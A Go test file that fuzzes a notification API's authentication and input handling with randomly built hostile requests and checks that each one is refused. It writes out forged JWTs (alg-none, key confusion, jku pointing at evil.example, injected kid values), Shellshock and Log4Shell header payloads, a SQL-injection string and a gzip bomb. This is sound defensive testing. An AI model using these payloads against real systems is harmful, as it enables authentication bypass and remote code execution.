package httpapi_test

import (
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"crypto/rsa"
	"encoding/base64"
	"encoding/json"
	"fmt"
	mathrand "math/rand/v2"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/google/uuid"

	"github.com/tidings-io/tidings/internal/commands"
	"github.com/tidings-io/tidings/internal/events"
)

// chance is where a request's choices come from.
type chance = mathrand.Rand

func pick[T any](r *chance, of []T) T { return of[r.IntN(len(of))] }

// hostile is a request that must be refused.
type hostile struct {
	kind           string
	method, target string
	host           string   // "": the server's own
	headers        []string // name, value, …
	body           string
	hasBody        bool
	chunks         int // of a body that says no length; 0: it says one
	raw            string

	secrets []string // what no answer may repeat
	want    []int    // what it may be answered
	unread  bool     // net/http may refuse it before it comes to us
	broken  bool     // it is no proper HTTP: it may be taken for several requests, or for none
}

func (q *hostile) header(name, value string) { q.headers = append(q.headers, name, value) }

func (q *hostile) has(name string) bool {
	for i := 0; i < len(q.headers); i += 2 {
		if q.headers[i] == name {
			return true
		}
	}
	return false
}

// show adds a credential, which no answer may repeat, nor any part of it.
func (q *hostile) show(scheme, credential string) {
	q.header("Authorization", scheme+credential)
	q.hide(credential)
}

const shortestSecret = 16 // what is shorter may be in an answer by accident

func (q *hostile) hide(credential string) {
	for _, part := range append(strings.Split(credential, "."), credential) {
		if len(part) >= shortestSecret {
			q.secrets = append(q.secrets, part)
		}
	}
}

// bytes are the request as it is sent.
func (q *hostile) bytes() []byte {
	if q.raw != "" {
		return []byte(q.raw)
	}
	host := q.host
	if host == "" {
		host = servedAs
	}
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", q.method, q.target, host)
	for i := 0; i < len(q.headers); i += 2 {
		fmt.Fprintf(&b, "%s: %s\r\n", q.headers[i], q.headers[i+1])
	}
	switch {
	case !q.hasBody:
		b.WriteString("\r\n")
	case q.chunks == 0:
		fmt.Fprintf(&b, "Content-Length: %d\r\n\r\n%s", len(q.body), q.body)
	default:
		b.WriteString("Transfer-Encoding: chunked\r\n\r\n")
		size := len(q.body)/q.chunks + 1
		for chunk := range slices.Chunk([]byte(q.body), size) {
			fmt.Fprintf(&b, "%x\r\n%s\r\n", len(chunk), chunk)
		}
		b.WriteString("0\r\n\r\n")
	}
	return b.Bytes()
}

// row is a route, and how it is asked for rightly.
type row struct {
	attempt

	method, pattern string
}

// arsenal is what requests are made of. It does not change.
type arsenal struct {
	rows      []row // routes that ask for a credential, in the order of their names
	published string
	right     string // an admin's token
	key       string // an admin's API key
	useless   []string
	forbidden []forbidden
	cursors   []string // each of another list
}

// forbidden is a right credential at the wrong door.
type forbidden struct {
	row        row
	credential string
}

func newArsenal(t *testing.T, g *guarded) *arsenal {
	t.Helper()
	a := &arsenal{right: g.rs256(t, claims("root", "admin"))}
	_, a.key = makeKey(t, g.store, "root", nil, "admin")
	a.stock(t, g)
	for route, attempt := range attempts(a.published) {
		method, pattern, _ := strings.Cut(route, " ")
		a.rows = append(a.rows, row{attempt: attempt, method: method, pattern: pattern})
	}
	slices.SortFunc(a.rows, func(a, b row) int { return strings.Compare(a.pattern+a.method, b.pattern+b.method) })
	a.useless = g.useless(t)
	for _, row := range a.rows {
		for _, credential := range g.elsewhere(t, row) {
			a.forbidden = append(a.forbidden, forbidden{row, credential})
		}
	}
	return a
}

// stock publishes something, so that lists have a next page, whose cursors are asked
// of other lists.
func (a *arsenal) stock(t *testing.T, g *guarded) {
	t.Helper()
	post := func(method, path, body string) string {
		response := g.do(t, method, path, body, "Authorization", "Bearer "+a.right, "Content-Type", "application/json", "Prefer", "wait=30")
		var answer struct {
			ID string `json:"id"`
		}
		if err := json.NewDecoder(response.Body).Decode(&answer); err != nil || response.StatusCode >= 300 {
			t.Fatalf("%s %s: %s, %v", method, path, response.Status, err)
		}
		return answer.ID
	}
	for _, topic := range []string{"builds.main", "builds.other"} {
		for _, user := range []string{"ann", "bob"} {
			post(http.MethodPut, "/v1/users/"+user+"/subscriptions/"+topic, `{}`)
		}
		a.published = post(http.MethodPost, "/v1/notifications", `{"to":["topic:`+topic+`"],"title":"t"}`)
	}
	for _, path := range []string{"/v1/users/ann/inbox", "/v1/users/ann/subscriptions", "/v1/topics", "/v1/topics/builds.main/subscribers"} {
		response := g.do(t, http.MethodGet, path+"?limit=1", "", "Authorization", "Bearer "+a.right)
		var page struct {
			NextCursor string `json:"next_cursor"`
		}
		if err := json.NewDecoder(response.Body).Decode(&page); err != nil || page.NextCursor == "" {
			t.Fatalf("%s: %s, no next page: %v", path, response.Status, err)
		}
		a.cursors = append(a.cursors, page.NextCursor)
	}
}

// useless are credentials that are right for nothing.
func (g *guarded) useless(t *testing.T) []string {
	t.Helper()
	var all []string
	for _, credential := range g.wrong(t, "ann", "admin") {
		all = append(all, credential)
	}
	id, key := makeKey(t, g.store, "root", nil, "admin")
	md := events.Metadata{CommandID: uuid.New(), Attempt: uuid.New()}
	if _, err := commands.Handle(t.Context(), g.store, md, commands.RevokeKey{Key: id}); err != nil {
		t.Fatal(err)
	}
	all = append(all, key, string(id), "tidings_"+string(id), "tidings_"+string(id)+"_", strings.ToUpper(key), key+key)
	all = append(all, g.forgedHeaders(t)...)
	all = append(all, g.forgedClaims(t)...)
	slices.Sort(all) // maps have no order
	return all
}

func part(text string) string { return base64.RawURLEncoding.EncodeToString([]byte(text)) }

func sign(t *testing.T, head, claims string, key *rsa.PrivateKey) string {
	t.Helper()
	text := part(head) + "." + part(claims)
	signature, err := jwt.SigningMethodRS256.Sign(text, key)
	if err != nil {
		t.Fatal(err)
	}
	return text + "." + part(string(signature))
}

func text(t *testing.T, v any) string {
	t.Helper()
	encoded, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(encoded)
}

// forgedHeaders are tokens whose header wants to be believed.
func (g *guarded) forgedHeaders(t *testing.T) []string {
	t.Helper()
	right := text(t, claims("root", "admin"))
	other, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for _, alg := range []string{`"none"`, `"None"`, `"nOnE"`, `"NONE"`, `""`, `"HS384"`, `"RS384"`, `"PS256"`, `"ES256"`, `"EdDSA"`, `"rs256"`, `null`, `0`, `["RS256"]`, `{"a":1}`} {
		head := part(`{"typ":"JWT","alg":`+alg+`}`) + "." + part(right) + "."
		all = append(all, head, head+part("signed"), strings.TrimSuffix(head, "."))
	}
	for _, secret := range [][]byte{g.public, bytes.TrimSpace(g.public), {}, []byte("secret")} { // the public key as a secret
		for _, method := range []jwt.SigningMethod{jwt.SigningMethodHS256, jwt.SigningMethodHS512} {
			all = append(all, signed(t, method, claims("root", "admin"), secret))
		}
	}
	n := base64.RawURLEncoding.EncodeToString(other.N.Bytes())
	for _, more := range []string{
		`"kid":"../../../../dev/null"`, `"kid":"' OR 1=1 --"`, `"kid":"|id"`, `"jku":"http://evil.example/keys"`, `"x5u":"http://169.254.169.254/"`,
		`"jwk":{"kty":"RSA","e":"AQAB","n":"` + n + `"}`, `"x5c":["AAAA"]`, `"kid":{"a":1}`, `"kid":"` + strings.Repeat("k", 4000) + `"`,
	} {
		all = append(all, sign(t, `{"alg":"RS256",`+more+`}`, right, other))
	}
	for _, head := range []string{ // the key is right, and what it signed is not for us
		`{"alg":"RS256","crit":["exp"]}`, `{"alg":"RS256","b64":false}`, `{"alg":"RS256","zip":"DEF"}`, `{"alg":"RS256","enc":"A128GCM"}`,
		`{"alg":"RS256","cty":"JWT"}`, `{"alg":"RS256","typ":"dpop+jwt"}`, `{"alg":"RS256","typ":"logout+jwt"}`, `{"alg":"RS256","typ":1}`,
		`{"alg":"none","alg":"RS256"}`, `{"alg":"RS256","alg":"none"}`, `["RS256"]`, `null`, `{"alg":"RS256"`, "{\"alg\":\"RS256\",\"x\":\"\xff\"}",
	} {
		all = append(all, sign(t, head, right, g.private))
	}
	return append(all,
		g.rs256(t, claims("root", "admin"))+".."+part("five parts"), "..", ".", "a.b.c", "....", part("{}")+"."+part("{}")+"."+part("{}"),
		sign(t, `{"alg":"RS256"}`, g.rs256(t, claims("root", "admin")), g.private), // one within the other
	)
}

// forgedClaims are signed by the right key, and say what no token may.
func (g *guarded) forgedClaims(t *testing.T) []string {
	t.Helper()
	var all []string
	for name, values := range map[string][]any{
		"exp":    {"tomorrow", nil, -1, []int{1}, true, json.RawMessage("1e400"), json.RawMessage("1e15"), 1, "9999999999"},
		"sub":    {42, "", nil, []string{"root"}, map[string]int{}, strings.Repeat("r", 300), "ro\x00ot", "ro\not", true},
		"aud":    {42, []string{}, map[string]int{"a": 1}, "", []any{1}, "tidings-test "},
		"nbf":    {"now", time.Now().Add(time.Hour).Unix(), []int{1}},
		"iat":    {"now", time.Now().Add(time.Hour).Unix(), -5},
		"scope":  {42, map[string]int{}, []any{1}, []any{nil}},
		"topics": {42, map[string]int{}, []any{1}, "a\x00b"},
	} {
		for _, value := range values {
			if raw, ok := value.(json.RawMessage); ok {
				without := text(t, with(claims("root", "admin"), name, 0))
				all = append(all, sign(t, `{"alg":"RS256"}`, strings.Replace(without, `"`+name+`":0`, `"`+name+`":`+string(raw), 1), g.private))
				continue
			}
			all = append(all, g.rs256(t, with(claims("root", "admin"), name, value)))
		}
	}
	right := text(t, claims("root", "admin"))
	for _, claims := range []string{
		`[` + right + `]`, `"` + `root"`, `1`, `null`, ``, `{`, right + right, right + "\x00", strings.Replace(right, "root", "ro\xffot", 1),
		`{"sub":"ann",` + right[1:], right[:len(right)-1] + `,"exp":99999999999}`, strings.Replace(right, "root", `\ud800`, 1),
	} {
		all = append(all, sign(t, `{"alg":"RS256"}`, claims, g.private))
	}
	return all
}

// elsewhere are right credentials that do not open this route.
func (g *guarded) elsewhere(t *testing.T, row row) []string {
	t.Helper()
	other := map[string]string{"publish": "inbox", "subscribe": "inbox", "inbox": "publish", "audit": "inbox", "admin": "publish subscribe inbox audit"}[row.scope]
	if row.pattern == "/v1/users/{user}/subscriptions" {
		other = "publish"
	}
	all := []string{g.rs256(t, claims("ann", other)), g.rs256(t, claims("ann", "")), g.rs256(t, claims("ann", "ADMIN Admin admin* openid"))}
	if row.own {
		all = append(all, g.rs256(t, claims("bob", row.scope)), g.rs256(t, claims("ann/", row.scope)), g.rs256(t, claims("Ann", row.scope)))
	}
	if row.topic {
		all = append(all, g.rs256(t, claims("ann", row.scope, "deploys.*", "builds", "user:*")), g.rs256(t, claims("ann", row.scope, []string{}...)))
	}
	if row.everyTopic {
		all = append(all, g.rs256(t, claims("ann", row.scope, "builds.*")))
	}
	return all
}

// kind is one way to be hostile.
type kind struct {
	name    string
	weight  int
	make    func(*arsenal, *chance, *hostile)
	reaches []int // statuses that show that it comes as far as it is meant to
}

var kinds = []kind{
	{"credential", 22, (*arsenal).credential, []int{401, 403}},
	{"elsewhere", 8, (*arsenal).elsewhere, []int{403}},
	{"another site", 5, (*arsenal).anotherSite, []int{403}},
	{"body", 25, (*arsenal).hostileBody, []int{400, 413, 415, 422}},
	{"query", 12, (*arsenal).hostileQuery, []int{400, 422}},
	{"name", 12, (*arsenal).hostileName, []int{400, 404, 422}},
	{"nowhere", 8, (*arsenal).nowhere, []int{400, 404, 405, 421, 431}},
	{"broken", 8, (*arsenal).broken, []int{400, 401, 421, 431}},
}

// request makes a request. It depends on the chance alone.
func (a *arsenal) request(r *chance) *hostile {
	all := 0
	for _, k := range kinds {
		all += k.weight
	}
	at := r.IntN(all)
	for _, k := range kinds {
		if at -= k.weight; at < 0 {
			q := &hostile{kind: k.name}
			k.make(a, r, q)
			if !q.broken && !q.unread { // what net/http refuses it does not read: the answer to a long one may get lost
				q.decorate(r)
			}
			return q
		}
	}
	panic("there is always one")
}

// ask makes the request of a row, without a credential.
func (q *hostile) ask(row row) {
	q.method, q.target = row.method, row.path
	if row.body != "" {
		q.send(row.body)
		q.header("Content-Type", "application/json")
	}
}

func (q *hostile) send(body string) { q.body, q.hasBody = body, true }

// proper shows a credential that is right.
func (a *arsenal) proper(r *chance, q *hostile) {
	q.show("Bearer ", pick(r, []string{a.right, a.right, a.key}))
}

func (a *arsenal) credential(r *chance, q *hostile) {
	row := pick(r, a.rows)
	q.ask(row)
	if q.method == http.MethodGet && !strings.HasSuffix(q.target, "/stream") && r.IntN(5) == 0 {
		q.method = http.MethodHead
	}
	q.want = []int{http.StatusUnauthorized}
	joint := "?"
	if strings.Contains(q.target, "?") {
		joint = "&"
	}
	switch r.IntN(12) {
	case 0: // none
	case 1, 2, 3:
		q.show("Bearer ", pick(r, a.useless))
	case 4, 5:
		q.show("Bearer ", mutated(r, a.right))
	case 6:
		q.show("Bearer ", mutatedKey(r, a.key))
	case 7:
		q.show("Bearer ", oddText(r, 1+r.IntN(20_000)))
	case 8:
		q.show(pick(r, []string{"Basic ", "Digest ", "", "Bearer: ", "Bearer,", "Bearer", "Token ", "Bearer Bearer "}), a.right)
	case 9:
		q.show("Bearer ", a.right)
		q.show("Bearer ", pick(r, []string{a.right, "x", a.key}))
	case 10:
		q.target += joint + pick(r, []string{"access_token=", "access_token=&access_token=", "Access_token=", "a=1&access_token="}) + a.right
		q.hide(a.right)
	default:
		q.hide(a.right)
		if q.method == http.MethodGet || q.method == http.MethodHead {
			q.header("Cookie", "tidings_token="+mutated(r, a.right))
			return
		}
		q.header("Cookie", "a=b; tidings_token="+a.right)
		q.want = []int{http.StatusForbidden} // a page that keeps silent where it is from
	}
}

const base64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

// mutated is another text than the token, so that its signature does not go with it.
func mutated(r *chance, token string) string {
	for {
		at := r.IntN(len(token))
		parts := strings.Split(token, ".")
		var text string
		switch r.IntN(8) {
		case 0, 1, 2:
			text = token[:at] + string(base64Alphabet[r.IntN(len(base64Alphabet))]) + token[at+1:]
		case 3:
			text = token[:at]
		case 4:
			text = token[:at] + pick(r, []string{"=", ".", "+", "/", "%", "~", "A", "%00", "\x80"}) + token[at:]
		case 5:
			i, j := r.IntN(len(parts)), r.IntN(len(parts))
			parts[i] = parts[j]
			text = strings.Join(parts, ".")
		case 6:
			i := r.IntN(len(parts))
			text = strings.Join(slices.Delete(parts, i, i+1), ".")
		default:
			text = strings.ToUpper(token)
		}
		if text != token {
			return text
		}
	}
}

func mutatedKey(r *chance, key string) string {
	const alphabet = "abcdefghijklmnopqrstuvwxyz234567"
	for {
		at := len("tidings_") + r.IntN(len(key)-len("tidings_"))
		text := key[:at] + string(alphabet[r.IntN(len(alphabet))]) + key[at+1:]
		switch r.IntN(4) {
		case 0:
			text = key[:at]
		case 1:
			text = key[:at] + "a" + key[at:]
		}
		if text != key {
			return text
		}
	}
}

// oddText is what a header may hold, and nobody writes.
func oddText(r *chance, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte('!' + r.IntN('~'-'!'))
		if r.IntN(4) == 0 {
			b[i] = byte(0x80 + r.IntN(0x80))
		}
	}
	return string(b)
}

func (a *arsenal) elsewhere(r *chance, q *hostile) {
	f := pick(r, a.forbidden)
	q.ask(f.row)
	q.show("Bearer ", f.credential)
	q.want = []int{http.StatusForbidden}
}

// changing is a route that changes something.
func (a *arsenal) changing(r *chance) row {
	for {
		if row := pick(r, a.rows); row.method != http.MethodGet {
			return row
		}
	}
}

func (a *arsenal) anotherSite(r *chance, q *hostile) {
	q.ask(a.changing(r))
	if r.IntN(2) == 0 {
		a.proper(r, q)
	} else {
		q.header("Cookie", "tidings_token="+a.right)
		q.hide(a.right)
	}
	switch r.IntN(3) {
	case 0:
		q.header("Sec-Fetch-Site", pick(r, []string{"cross-site", "same-site", "Same-Origin", "x", "same-origin, cross-site"}))
	case 1:
		q.header("Sec-Fetch-Site", "cross-site")
		q.header("Origin", "https://"+servedAs) // which a browser would not say together
	default:
		q.header("Origin", pick(r, []string{
			"https://evil.example", "null", "http://" + servedAs + ".evil.example", "http://" + servedAs + ":81", "http://" + servedAs + "@evil.example", "file://", "x",
			"https://evil.example, https://" + servedAs, "https://evil.example/" + servedAs,
		}))
	}
	q.want = []int{http.StatusForbidden}
}

// hostileQuery asks rightly who may, and wrongly for what.
func (a *arsenal) hostileQuery(r *chance, q *hostile) {
	var asking []row
	for _, row := range a.rows {
		if row.method == http.MethodGet {
			asking = append(asking, row)
		}
	}
	row := pick(r, asking)
	q.ask(row)
	a.proper(r, q)
	path, _, _ := strings.Cut(q.target, "?")
	params := a.wrongParams(row.pattern)
	names := make([]string, 0, len(params))
	for name := range params {
		names = append(names, name)
	}
	slices.Sort(names)
	name := pick(r, names)
	query := name + "=" + pick(r, params[name])
	switch {
	case r.IntN(6) == 0:
		query = pick(r, []string{"%zz", "a=%", "a=%0", "a;b", "a=%00", "a=%ff", "x=%c0%80", "%ff=1", "a=%ed%a0%80", query + "&b=%", "limit=%31%zz"})
		if query == "%ff=1" { // a name that nobody asks for is nobody's business
			query = "limit=%ff"
		}
	case name != "user" && r.IntN(3) == 0: // among many others, none of which makes it right
		query += strings.Repeat("&x[]=1", r.IntN(300))
	}
	q.target = path + "?" + query
	q.want = []int{http.StatusBadRequest, http.StatusUnprocessableEntity}
}

// wrongParams are parameters of a route and what they cannot be.
func (a *arsenal) wrongParams(pattern string) map[string][]string {
	positions := []string{"-1", "abc", "9223372036854775807", "18446744073709551616", "1e3", "0x1", "01", "%201", "%D9%A1", "1.0", strings.Repeat("9", 3000), "NaN"}
	times := []string{"yesterday", "2026-13-01T00:00:00Z", "2026-01-01", "2026-01-01T00:00:00", "1e10Z", "0000-00-00T00:00:00Z", "2026-01-01T25:00:00Z"}
	users := []string{"a%2Fb", "%2e", "-a", "a%20b", strings.Repeat("a", 129), "%C3%A9", "a%0Ab"}
	topics := []string{"~x", "%2F", "a%2F%2Fb", "a%2F..%2Fb", strings.Repeat("a", 201), "a%20b", "-a", "*"}
	limits := []string{"0", "-1", "1001", "abc", "1e2", "99999999999999999999", "%D9%A1", "0x10", "1.5", "true"}
	all := map[string][]string{"as_of": slices.Concat([]string{"", "9999-12-31T23:59:59Z", "10000-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "9223372036854775806"}, positions[:2], times)}
	if pattern == "/v1/audit/stream" {
		all["as_of"] = []string{"1", "x"} // which is not ignored
		all["user"], all["topic"], all["after"], all["from"], all["to"] = users, topics, positions, times, times
		return all
	}
	if strings.HasSuffix(pattern, "/stream") {
		all["history"] = []string{"-1", "1001", "abc", "1e2", "99999999999999999999", "0x10"}
		delete(all, "as_of")
		all["as_of"] = []string{"1", "x"} // which is not ignored
		return all
	}
	all["wait_for"] = positions
	switch pattern {
	case "/v1/users/{user}/inbox":
		all["limit"] = append(limits, "101")
		all["state"], all["severity"], all["counts"] = []string{"ALL", "none", "read,unread", "%27"}, []string{"HIGH", "0", "x"}, []string{"1", "yes", "TRUE"}
		all["topic"], all["cursor"] = topics, a.otherCursors(0)
	case "/v1/users/{user}/subscriptions":
		all["limit"], all["cursor"] = append(limits, "101"), a.otherCursors(1)
	case "/v1/topics":
		all["limit"], all["cursor"] = append(limits, "101"), a.otherCursors(2)
	case "/v1/topics/{topic}/subscribers":
		all["limit"], all["cursor"] = limits, a.otherCursors(3)
	case "/v1/notifications/{id}/explain":
		all["user"] = append(users, "")
		delete(all, "as_of") // user is looked at, too
		delete(all, "wait_for")
	case "/v1/audit/events":
		all["limit"], all["user"], all["topic"] = limits, users, topics
		all["after"], all["cursor"], all["from"], all["to"] = positions, append(positions, a.cursors...), times, times
	case "/v1/projections/{name}/versions/{version}/parity":
		all["limit"] = append(limits, "101")
	}
	return all
}

// otherCursors are cursors of all lists but one, and what is no cursor.
func (a *arsenal) otherCursors(own int) []string {
	all := slices.Delete(slices.Clone(a.cursors), own, own+1)
	list := []string{"i", "s", "t", "u"}[own]
	return append(all, "x", "%00", "AAAA", a.cursors[own]+"A", a.cursors[own][1:], part(list), part(list+"\x00"), part(list+"\xff"), part("x1"), strings.Repeat("A", 4000), "..")
}

// decorate adds what must make no difference.
func (q *hostile) decorate(r *chance) {
	for range r.IntN(4) {
		name := pick(r, []string{
			"X-Forwarded-For", "Traceparent", "Idempotency-Key", "Prefer", "Last-Event-ID", "Tidings-Position", "Cookie", "Accept", "Range",
			"X-Http-Method-Override", "Forwarded", "X-Request-Id", "Upgrade", "If-None-Match", "X-Odd", "Accept-Encoding", "Connection", "Expect", "X-Original-Url",
		})
		values := map[string][]string{
			"X-Forwarded-For":        {"127.0.0.1", strings.Repeat("10.0.0.1,", 900), "::1", "x", "'; DROP TABLE inbox; --", ",,,,"},
			"Traceparent":            {"00-00000000000000000000000000000000-0000000000000000-00", "ff-" + strings.Repeat("f", 200), "x", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
			"Idempotency-Key":        {"", strings.Repeat("k", 300), "\xff\xfe", "k", strings.Repeat("é", 256)},
			"Prefer":                 {"wait=99999999999999999999", "wait=-1", "wait", "wait=30;wait=30, wait=1", "respond-async", strings.Repeat("wait=30,", 500)},
			"Last-Event-ID":          {"earliest", "-1", "9223372036854775807", "x\x80", strings.Repeat("1", 5000)},
			"Tidings-Position":       {"-1", "x", "18446744073709551616", strings.Repeat("9", 5000)},
			"Cookie":                 {"tidings_token", "tidings_token=", "=", strings.Repeat("a=b; ", 900), "a=\x80", ";;;;"},
			"Accept":                 {"application/x-ndjson", "*/*;q=banana", strings.Repeat("a/b,", 2000), "text/event-stream"},
			"Range":                  {"bytes=0-", "bytes=" + strings.Repeat("0-,", 1300), "x"},
			"X-Http-Method-Override": {http.MethodDelete, http.MethodGet},
			"Forwarded":              {"for=127.0.0.1;host=localhost;proto=https"},
			"X-Request-Id":           {strings.Repeat("x", 129), "a b", "\x80", "id-1", "<script>"},
			"Upgrade":                {"h2c", "websocket", "TLS/1.3"},
			"If-None-Match":          {"*", `"x"`},
			"X-Odd":                  {oddText(r, 1+r.IntN(2000)), "a\tb", "() { :;}; echo", "${jndi:ldap://evil.example/a}"},
			"Accept-Encoding":        {"gzip, br, *;q=0", "x"},
			"Connection":             {"close", "Upgrade, HTTP2-Settings", "keep-alive, close, X-Request-Id", "Authorization"},
			"Expect":                 {"100-continue"},
			"X-Original-Url":         {"/metrics", "/v1/audit/events"},
		}[name]
		switch {
		case q.has(name) && name != "Idempotency-Key":
		case name == "Last-Event-ID" && q.kind == "query": // a resume ignores history
		case name == "Cookie" && q.want[0] == http.StatusForbidden && q.kind == "credential":
		default:
			q.header(name, pick(r, values))
			if name == "Idempotency-Key" || name == "Tidings-Position" { // both are read before it is known what the request is about
				q.want = append(q.want, http.StatusUnprocessableEntity)
			}
		}
	}
}

func zeros(n int) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write(make([]byte, n)) // to memory
	_ = w.Close()
	return b.String()
}

var bomb = zeros(4 << 20)

func numbered(n int, format string) string {
	all := make([]string, n)
	for i := range all {
		all[i] = fmt.Sprintf(format, i)
	}
	return strings.Join(all, ",")
}

func quoted(n int) string { return strconv.Quote(strings.Repeat("x", n)) }
